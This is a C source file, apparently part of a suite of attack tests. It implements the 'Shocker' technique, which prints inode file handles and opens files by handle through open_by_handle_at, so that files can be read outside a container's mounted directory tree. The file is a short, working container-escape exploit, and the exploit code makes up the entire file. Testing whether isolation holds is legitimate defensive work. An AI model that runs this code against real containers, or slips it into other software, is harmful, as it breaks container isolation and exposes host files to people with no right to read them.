/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * handle.c: files by handle, the numbers of inodes, instead of by path (Shocker).
 *
 *   handle of PATH            prints the handle of a file, as TYPE:HEX; an attacker guesses it, the number of a root directory is known
 *   handle open DIRECTORY TYPE:HEX    opens it by way of any file of the same file system, and prints its first line
 */
#include "attack.h"
#include <fcntl.h>
#include <unistd.h>

#define HANDLE_MAX 128

typedef union Handle {
        struct file_handle head;
        char room[sizeof(struct file_handle) + HANDLE_MAX];
} Handle;

static int print_handle(const char *path) {
        Handle h = { .head.handle_bytes = HANDLE_MAX };
        int mount;

        if (name_to_handle_at(AT_FDCWD, path, &h.head, &mount, 0) < 0) {
                broken(path);
        }
        printf("%d:", h.head.handle_type);
        for (unsigned i = 0; i < h.head.handle_bytes; i++) {
                printf("%02x", h.head.f_handle[i]);
        }
        putchar('\n');
        return 0;
}

static int open_handle(const char *directory, const char *text) {
        Handle h = { 0 };
        int mount = open(directory, O_RDONLY | O_DIRECTORY | O_CLOEXEC), fd;
        char line[128];
        ssize_t n;

        h.head.handle_type = atoi(text);
        text = strchr(text, ':');
        if (mount < 0 || !text) {
                broken(directory);
        }
        for (text++; h.head.handle_bytes < HANDLE_MAX &&
                     sscanf(text, "%2hhx", &h.head.f_handle[h.head.handle_bytes]) == 1;
             text += 2) {
                h.head.handle_bytes++;
        }
        fd = open_by_handle_at(mount, &h.head, O_RDONLY);
        if (fd < 0) {
                stopped("open_by_handle_at");
        }
        n = read(fd, line, sizeof(line) - 1);
        if (n <= 0) {
                broken("read");
        }
        line[n] = '\0';
        line[strcspn(line, "\n")] = '\0';
        say("read by its handle: %s", line);
        return ATTACK_SUCCEEDED;
}

int main(int argc, char **argv) {
        if (argc == 3 && strcmp(argv[1], "of") == 0) {
                return print_handle(argv[2]);
        }
        if (argc == 4 && strcmp(argv[1], "open") == 0) {
                return open_handle(argv[2], argv[3]);
        }
        say("usage: handle of PATH | handle open DIRECTORY TYPE:HEX");
        return ATTACK_BROKEN;
}
